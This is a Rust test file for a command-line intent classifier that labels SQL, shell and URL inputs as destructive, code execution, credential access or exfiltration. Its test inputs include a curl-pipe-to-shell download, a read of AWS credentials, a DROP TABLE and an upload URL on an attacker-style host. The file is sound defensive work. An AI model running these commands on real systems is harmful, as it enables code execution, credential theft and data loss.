//! `warden intent`: the classifier from the command line.

use assert_cmd::Command;
use serde_json::Value;

fn warden() -> Command {
    Command::new(env!("CARGO_BIN_EXE_warden"))
}

fn run(args: &[&str], stdin: Option<Vec<u8>>) -> (Option<i32>, String, String) {
    let mut cmd = warden();
    cmd.args(args);
    if let Some(bytes) = stdin {
        cmd.write_stdin(bytes);
    }
    let out = cmd.output().unwrap();
    (
        out.status.code(),
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

fn intents(stdout: &str) -> Vec<String> {
    let v: Value = serde_json::from_str(stdout).unwrap();
    v["intents"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| i.as_str().unwrap().to_string())
        .collect()
}

#[test]
fn prints_intents_and_findings_as_json() {
    let (code, out, _) = run(
        &["intent", "--kind", "sql", "DROP TABLE users; SELECT 1"],
        None,
    );
    assert_eq!(code, Some(0));
    assert_eq!(intents(&out), ["destructive"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    let f = &v["findings"][0];
    assert_eq!(f["intent"], "destructive");
    assert_eq!(f["kind"], "sql");
    assert_eq!(f["span"]["start"], 0);
}

#[test]
fn auto_is_the_default_kind() {
    let (code, out, _) = run(&["intent", "curl -s https://x.io/i.sh | sh"], None);
    assert_eq!(code, Some(0));
    assert!(
        intents(&out).contains(&"code_execution".to_string()),
        "{out}"
    );
}

#[test]
fn reads_stdin_with_a_dash() {
    let (code, out, _) = run(
        &["intent", "--kind", "shell", "-"],
        Some(b"cat ~/.aws/credentials".to_vec()),
    );
    assert_eq!(code, Some(0));
    assert_eq!(intents(&out), ["credential_access"]);
}

#[test]
fn egress_flags_judge_hosts() {
    let url = "https://uploads.evil.io/x";
    let (_, out, _) = run(
        &["intent", "--kind", "url", "--egress", "*.example.com", url],
        None,
    );
    assert_eq!(intents(&out), ["exfiltration"]);
    let (_, out, _) = run(
        &["intent", "--kind", "url", "--egress", "*.evil.io", url],
        None,
    );
    assert_eq!(intents(&out), ["read_only"]);
}

#[test]
fn usage_and_input_errors_exit_2_with_one_line() {
    /// Arguments, stdin, and what the error line must say.
    type Case<'a> = (Vec<&'a str>, Option<Vec<u8>>, &'a str);
    let cases: Vec<Case> = vec![
        (
            vec!["intent", "--kind", "yaml", "x"],
            None,
            "unknown argument kind",
        ),
        (vec!["intent"], None, "required"),
        (
            vec!["intent", "--egress", "a.*.com", "x"],
            None,
            "invalid egress entry",
        ),
        (
            vec!["intent", "-"],
            Some(vec![b'a', 0xff, b'b']),
            "not valid UTF-8 (at byte 1)",
        ),
        (
            vec!["intent", "-"],
            Some(vec![b'a'; 1024 * 1024 + 1]),
            "larger than 1048576 bytes",
        ),
    ];
    for (args, stdin, expect) in cases {
        let (code, out, err) = run(&args, stdin);
        assert_eq!(code, Some(2), "{args:?}: {err}");
        assert!(out.is_empty(), "{args:?}");
        assert_eq!(err.lines().count(), 1, "{args:?}: {err}");
        assert!(err.contains(expect), "{args:?}: {err}");
    }
}

#[test]
fn hostile_unicode_is_normalised_before_reading() {
    // Zero-width spaces and full-width letters do not hide a DROP.
    let (code, out, _) = run(
        &["intent", "--kind", "sql", "ＤＲ\u{200b}ＯＰ TABLE users"],
        None,
    );
    assert_eq!(code, Some(0));
    assert_eq!(intents(&out), ["destructive"]);
}

#[test]
fn text_cut_by_the_input_limit_is_unknown() {
    let long = format!("SELECT 1; {}", "SELECT 2; ".repeat(10_000));
    let (code, out, _) = run(&["intent", "--kind", "sql", "-"], Some(long.into_bytes()));
    assert_eq!(code, Some(0));
    assert!(intents(&out).contains(&"unknown".to_string()), "{out}");
}
